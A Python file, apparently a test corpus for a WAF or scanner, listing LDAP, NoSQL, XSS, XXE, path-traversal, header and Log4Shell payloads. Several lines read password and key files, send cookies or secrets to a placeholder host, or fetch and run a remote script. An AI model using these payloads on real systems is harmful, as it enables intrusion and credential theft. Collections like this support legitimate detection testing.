    A("joe@corpmail.net,\r\n attacker@§A"),
    A("RCPT TO:<a@§A>\r\nRCPT TO:<b@§A>"),
    A("x\r\nReturn-Path: <bounce@§A>"),
    A("bob@corpmail.net\u000d\u000aBcc: x@§A"),
    A("sales@§T\n\nInjected body: please call +1-555-0100"),
    A("carol@§T\r\nList-Unsubscribe: <https://§A/u>"),
    A("\r\nBcc: x1@§A"),
    A("A001 LOGIN admin pass\r\nA002 SELECT INBOX", only={"json", "form", "query", "multipart", "xml"}),
]

# ---- LDAP injection -------------------------------------------------------
LDAPI = [
    A("*"),
    A("*)(uid=*))(|(uid=*"),
    A("admin)(&)"),
    A("admin)(|(password=*))"),
    A("*)(|(objectClass=*)"),
    A("*))(|(cn=*"),
    A("admin*"),
    A("a*)(|(mail=*@§T"),
    A("admin)(!(&(1=0"),
    A("*)(uid=*))\x00"),
    A("admin))(|(uid=*"),
    A("admin)(userPassword=a*"),
    A("*)(sAMAccountName=adm*"),
    A("*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local"),
    A("x)(objectClass=user)(description=*pass*"),
    A("*)(|(cn=*)(cn=*"),
    A("admin,ou=admins,dc=corp,dc=local"),
    A("*)(&(objectClass=*)"),
    H("*)(UiD=*))(|(uId=*"),
    A("*)(&"),
    A("*(|(objectclass=*))"),
    A("jdoe)(|(telephoneNumber=*)"),
    A("admin)(objectClass=*))(&(objectClass=void"),
    A("*)(givenName=*"),
    A("svc_*)(userAccountControl:1.2.840.113556.1.4.803:=2"),
    A("*)(pwdLastSet=0"),
    A("*)(|(homeDirectory=*)"),
    A("x*)(employeeType=contractor"),
    A("a)(|(objectClass=person)(objectClass=inetOrgPerson)"),
    A("*)(mail=*))%00"),
    A("*))(|(objectClass=*"),
    A("j*)(department=Finance"),
    A("*)(!(cn=nobody)"),
    A("*)(userPassword={SSHA}*"),
    A("uid=admin)(|(uid=*"),
    A("admin)(cn=*)(|(cn=*"),
    A("*)(description=*"),
    A("guest))(|(memberOf=cn=admins,ou=groups,dc=corp,dc=local"),
    H("aDmIn)(|(ObjectClass=*))"),
    A("*)(|(sn=a*)(sn=b*)"),
    A("*)(unicodePwd=*"),
    A("ou=*,dc=corp,dc=local"),
    A("*)(ms-Mcs-AdmPwd=*"),
    A("cn=*)(objectClass=*"),
]

# ---- XSS --------------------------------------------------------------------
XSS = [
    A("<script>alert(1)</script>"),
    A("<img src=x onerror=alert(document.cookie)>"),
    A("<svg onload=alert(1)>"),
    A("<svg/onload=confirm(document.domain)>"),
    A("\"><script>fetch('https://§A/c?'+document.cookie)</script>"),
    A("'><img src=x onerror=prompt(1)>"),
    A("<body onload=alert(1)>"),
    A("<iframe src=\"javascript:alert(1)\">"),
    H("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"),
    A("<details open ontoggle=alert(1)>"),
    A("<input autofocus onfocus=alert(1)>"),
    A("<video><source onerror=alert(1)>"),
    A("<audio src=x onerror=alert(1)>"),
    A("<marquee onstart=alert(1)>"),
    A("<a href=\"javascript:alert(1)\">click</a>"),
    H("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    H("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"),
    A("javascript:alert(document.domain)"),
    H("JaVaScRiPt:alert(1)"),
    H("java\nscript:alert(1)"),
    A("data:text/html;base64," + b64("<script>alert(1)</script>")),
    H("<ScRiPt>alert(1)</sCrIpT>"),
    H("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    H("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    H("<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    A("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    H("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    A("\"-alert(1)-\""),
    A("';alert(String.fromCharCode(88,83,83))//"),
    A("</script><script>alert(1)</script>"),
    A("{{constructor.constructor('alert(1)')()}}"),
    A("<object data=\"data:text/html,<script>alert(1)</script>\">"),
    A("<form action=\"javascript:alert(1)\"><button>x</button></form>"),
    A("<button formaction=javascript:alert(1)>x"),
    A("<x onclick=alert(1)>click me</x>"),
    H("<img src=x onerror=alert`1`>"),
    H("<svg><script>alert&#40;1&#41;</script>"),
    H("<img src=\"x\" onerror=\"window['al'+'ert'](1)\">"),
    H("<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    H("<svg onload=setTimeout('ale'+'rt(1)')>"),
    A("<base href=\"https://§A/\">"),
    A("<img src=x:x onerror=alert(1)//"),
    A("<svg/onload=alert(1)//"),
    A("<iframe onload=alert(1)>"),
    A("<img src=1 onerror=import('//§A/x.js')>"),
    A("\" autofocus onfocus=\"alert(1)"),
    A("' onmouseover='alert(1)"),
    RAW("%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    RAW("%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    H("<a href=\"javas&Tab;cript:alert(1)\">x</a>"),
    A("<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">x</text></a></svg>"),
    A("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>", mp=("content", "logo.svg", "image/svg+xml")),
    A("[click](javascript:alert(1))"),
    A("<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></math>"),
    H("<img src=x onerror=\\u0061lert(1)>"),
    A("Mozilla/5.0 <script src=//§A/k.js></script>", only=HDR_ONLY),
]

# ---- path traversal / local file inclusion --------------------------------
PT = [
    A("../../../../etc/passwd"),
    A(r"..\..\..\windows\win.ini"),
    A("../../../../../../etc/shadow"),
    A("/etc/passwd"),
    H("....//....//....//etc/passwd"),
    H("..././..././..././etc/passwd"),
    RAW("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    RAW("..%c0%af..%c0%af..%c0%afetc/passwd"),
    RAW("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    RAW("..%u2215..%u2215..%u2215windows%u2215win.ini"),
    RAW("%u002e%u002e%u2216%u002e%u002e%u2216boot.ini"),
    A("..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
    A("..;/..;/WEB-INF/web.xml"),
    A("/..;/manager/html"),
    A("../../../../proc/self/environ"),
    A("../../../proc/self/cmdline"),
    A("../../.env"),
    A("../../../../var/log/nginx/access.log"),
    A("../config/database.yml"),
    A(r"..\..\..\inetpub\wwwroot\web.config"),
    A(r"C:\Windows\System32\drivers\etc\hosts"),
    A("/var/www/html/../../../etc/passwd"),
    A("uploads/../../../../etc/passwd"),
    A("../../../../etc/passwd\x00.jpg"),
    A("../../../etc/passwd\x00.png"),
    H(".%2e/.%2e/.%2e/etc/passwd"),
    A("/./././../../../etc/passwd"),
    A("../../../../../../../../../../../../etc/hosts"),
    A("../../../root/.ssh/id_rsa"),
    A("../../../../home/ubuntu/.aws/credentials"),
    H(r"....\\....\\....\\windows\\win.ini"),
    RAW("..%255c..%255c..%255cwindows%255cwin.ini"),
    A("../../../../var/www/html/shell.php", mp=("filename", "file", "application/x-php")),
    A(r"..\..\..\Program Files\Acme\plugins\evil.dll", mp=("filename", "plugin", "application/octet-stream")),
    A("../../WEB-INF/classes/application.properties"),
    A("../../../../usr/local/tomcat/conf/tomcat-users.xml"),
    A("/proc/self/fd/3"),
    H("．．／．．／．．／etc／passwd"),
    A("../../../../../etc/./passwd"),
    A("../../../app/config/parameters.yml"),
    A("..%2f..%2f..%2fetc%2fpasswd"),
    A("../../../../opt/app/.git/config"),
    A("file/../../../../../etc/group"),
    A("../../../../etc/passwd", only=HDR_ONLY | {"cookie"}),
    A("/static/../../../../etc/passwd", only=HDR_ONLY),
    A("../../../../../../windows/win.ini", only=HDR_ONLY),
    A("...//...//...//etc/passwd"),
]

# ---- NoSQL injection (MongoDB, CouchDB) ------------------------------------
NOSQL = [
    A({"$ne": None}),
    A({"$ne": ""}),
    A({"$gt": ""}),
    A({"$regex": "^a"}),
    A({"$regex": ".*", "$options": "si"}),
    A({"$in": ["admin", "root", "administrator"]}),
    A({"$nin": [""]}),
    A({"$exists": True}),
    A({"$where": "sleep(5000) || true"}),
    A({"$or": [{"username": "admin"}, {"username": {"$ne": "x"}}]}),
    A({"username": {"$regex": "^adm"}, "password": {"$ne": None}}),
    A({"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}),
    A({"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}),
    A({"$where": "function(){return this.password.match(/^a/)}"}),
    A({"$jsonSchema": {}}),
    A([{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]),
    A({"selector": {"_id": {"$gt": None}}}),
    A({"$where": "this.role == 'admin'"}),
    A({"role": {"$ne": "user"}}),
    A({"$regex": "^.{0,}$"}),
    A({"price": {"$lt": 0}, "$comment": "x"}),
    A({"$not": {"$type": 1}}),
    A("' || '1'=='1"),
    A("'; return true; var x='"),
    A("1; sleep(5000)"),
    A("'; while(true){}; var a='"),
    A("admin' && this.password.match(/^a.*$/)//"),
    A("0;return true"),
    A("\"; return db.getCollectionNames(); var x=\""),
    H("a'||this.constructor.constructor('return process')().exit()||'"),
    A("username[$ne]", only={"query_key"}, qkval="x"),
    A("password[$ne]", only={"query_key"}, qkval=""),
    A("user[$regex]", only={"query_key"}, qkval="^adm"),
    A("login[$gt]", only={"query_key"}, qkval=""),
    A("filter[role][$ne]", only={"query_key"}, qkval="user"),
    A("email[$exists]", only={"query_key"}, qkval="true"),
    A("id[$in][]", only={"query_key"}, qkval="1"),
    A("$where", only={"json_key"}, jkval="sleep(4000) || true"),
    A("$ne", only={"json_key"}, jkval=None),
    A("$gt", only={"json_key"}, jkval=""),
    A("$regex", only={"json_key"}, jkval="^.*$"),
    A("$expr", only={"json_key"}, jkval={"$eq": [1, 1]}),
    A("$or", only={"json_key"}, jkval=[{"a": {"$exists": False}}, {"a": {"$exists": True}}]),
    A("j:{\"$ne\":null}", only={"cookie"}),
    A("j:{\"$gt\":\"\"}", only={"cookie"}),
    A("{\"$ne\": null}", only=HDR_ONLY),
    A("{\"$where\":\"sleep(3000)\"}", only=HDR_ONLY),
    H("{\"\\u0024ne\":null}", only=HDR_ONLY | {"cookie"}),
    A("this.password.length>0", only={"xml", "form", "multipart", "path", "query", "header"}),
]

# ---- XXE ------------------------------------------------------------------
def _x(root, inner="&x;", sys_id="file:///etc/passwd", decl=True, name="x"):
    d = '<?xml version="1.0" encoding="UTF-8"?>\n' if decl else ""
    return '%s<!DOCTYPE %s [<!ENTITY %s SYSTEM "%s">]>\n<%s>%s</%s>' % (
        d, root, name, sys_id, root, inner.replace("&x;", "&%s;" % name), root)


XXE_UTF7 = '<?xml version="1.0" encoding="UTF-7"?>' + '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode("utf-7").decode("ascii")
XXE = [
    A(_x("order", "<id>1</id><note>&x;</note>"), doc=True),
    A(_x("user", "<name>&x;</name>", "file:///c:/windows/win.ini"), doc=True),
    A(_x("lookup", "<q>&x;</q>", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", name="meta"), doc=True),
    A('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % ext SYSTEM "http://§A/ev.dtd"> %ext;]><d>1</d>', doc=True),
    H('<?xml version="1.0"?>\n<!DOCTYPE m [\n<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///nope/&#x25;f;&#x27;>">&#x25;e;&#x25;err;\'>\n%local;\n]>\n<m/>', doc=True),
    A(_x("invoice", "<total>&x;</total>", "php://filter/convert.base64-encode/resource=/var/www/html/config.php", name="cfg"), doc=True),
    A(_x("cmd", "&x;", "expect://id", name="e"), doc=True),
    A('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', doc=True),
    A('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>', no={"xml"}),
    A('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="0" y="20">&h;</text></svg>',
      doc=True, mp=("content", "badge.svg", "image/svg+xml")),
    A('<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY e SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&e;</id></getUser></soap:Body></soap:Envelope>', doc=True),
    A('<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://§A/x.dtd"><r/>', doc=True),
    A('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]><l>&g;</l>', doc=True),
    A(_x("data", "&x;", "jar:http://§A/x.zip!/a.txt", name="j"), doc=True),
    A(_x("config", "<v>&x;</v>", "netdoc:/etc/passwd", name="n"), doc=True),
    H(XXE_UTF7, doc=True, novalidate=True),
    A('<?xml version="1.0"?><!DOCTYPE p PUBLIC "-//ACME//DTD Profile//EN" "http://§A/p.dtd"><p>1</p>', doc=True),
    A("<?xml version='1.0'?><!DOCTYPE q [<!ENTITY y SYSTEM 'file:///etc/group'>]><q>&y;</q>", doc=True),
    A('<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://§IP:8000/oob.dtd">%remote;%init;%trick;]><rss version="2.0"><channel><title>x</title></channel></rss>', doc=True),
    A(_x("product", "<sku>&x;</sku><qty>1</qty>", "file:///proc/self/environ"), doc=True),
    A(_x("ticket", "<subject>&x;</subject>", "file:///home/app/.ssh/id_rsa", decl=False, name="k"), doc=True),
    A(_x("feed", "<entry>&x;</entry>", "http://127.0.0.1:8080/admin/", name="int"), doc=True),
    A('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://§A/a.dtd">%a;]><x/>', doc=True),
    A('<?xml version="1.0"?><!DOCTYPE Response [<!ENTITY ent SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&ent;</saml:Issuer></samlp:Response>', doc=True),
    A(_x("sitemap", "<url><loc>&x;</loc></url>", "file:///var/www/html/wp-config.php", name="wp"), doc=True),
    A(_x("import", "<row>&x;</row>", "ftp://§A:2121/probe", name="f"), doc=True),
    A('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY win SYSTEM "file:///C:/inetpub/wwwroot/web.config">]><w>&win;</w>', doc=True),
    A(_x("message", "<body>&x;</body>", "gopher://127.0.0.1:25/xHELO%20x", name="g"), doc=True),
    A('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', doc=True),
    A('<!DOCTYPE r [<!ENTITY % d SYSTEM "http://§A/d.dtd">%d;]><r>&exfil;</r>', doc=True, novalidate=True),
    A('<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY c SYSTEM "file:///etc/shadow">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&c;</name></Placemark></kml>', doc=True),
    A('<?xml version="1.0"?><!DOCTYPE x [ <!ENTITY  xx  SYSTEM  "file:///etc/issue" > ]><x>&xx;</x>', doc=True),
]

# ---- Log4Shell --------------------------------------------------------------
LOG4 = [
    A("${jndi:ldap://§A:1389/a}"),
    A("${jndi:rmi://§A/x}"),
    A("${jndi:dns://§A/x}"),
    A("${jndi:ldaps://§A/o}"),
    A("${jndi:iiop://§A/x}"),
    A("${jndi:corba://§A/obj}"),
    H("${${lower:j}ndi:${lower:l}dap://§A/a}"),
    H("${${upper:j}ndi:ldap://§A/u}"),
    H("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://§A/x}"),
    H("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//§A/x}"),
    H("${j${k8s:k5:-ND}i:ldap://§A/k}"),
    H("${${sys:foo:-j}ndi:ldap://§A/s}"),
    H("${jndi:${lower:l}${lower:d}a${lower:p}://§A/x}"),
    H("${${lower:${lower:jndi}}:ldap://§A/n}"),
    A("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.§A/a}"),
    A("${jndi:dns://${hostName}.§A}"),
    A("${jndi:ldap://${sys:java.version}.§A/x}"),
    A("${jndi:ldap://§IP:1389/Basic/Command/Base64/%s}" % b64("curl http://x.mal-cdn.top/l.sh|sh")),
    H("${jndi:ldap://127.0.0.1#§A:1389/a}"),
    H("${${::-${::-$${::-j}}}}"),
    RAW("%2524%257Bjndi:ldap://§A/d%257D"),
    H("${JnDi:ldap://§A/c}"),
    A("${jndi:ldap://${spring:spring.datasource.password}.§A/x}"),
    A("${jndi:ldap://§A/${date:MM-dd-yyyy}}"),
    H("${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://§A/z}"),
    H("${j${::-n}d${::-i}:rmi://§A/r}"),
    A("${jndi:ldap://§A/${env:USER}}"),
    A("${jndi:rmi://§IP:1099/jdk8}"),
    H("${jn${lower:d}i:l${lower:d}ap://§A/q}"),
    A("${jndi:ldap://§A/${ctx:loginId}}"),
    H("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://§A/d}"),
    A("${jndi:nis://§A/n}"),
    A("${jndi:nds://§A/n}"),
    A("${jndi:ldap://${main:0}.§A/m}"),
    H("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//§A/b}"),
    A("${jndi:ldap://§A:389/o=tomcat}"),
    A("${jndi:ldap://${java:os}.§A/os}"),
    A("${jndi:dns://§IP/${hostName}}"),
    H("${${upper:${lower:j}}ndi:${upper:l}dap://§A/w}"),
    A("${jndi:ldap://${bundle:application:spring.datasource.url}.§A/b}"),
    A("x ${jndi:ldap://§A/inline} y"),
    A("${jndi:ldap://${web:rootDir}.§A/w}"),
    A("Mozilla/5.0 ${jndi:ldap://§A/ua}", only=HDR_ONLY),
    H("${jndi:${lower:r}mi://§A/r2}"),
]
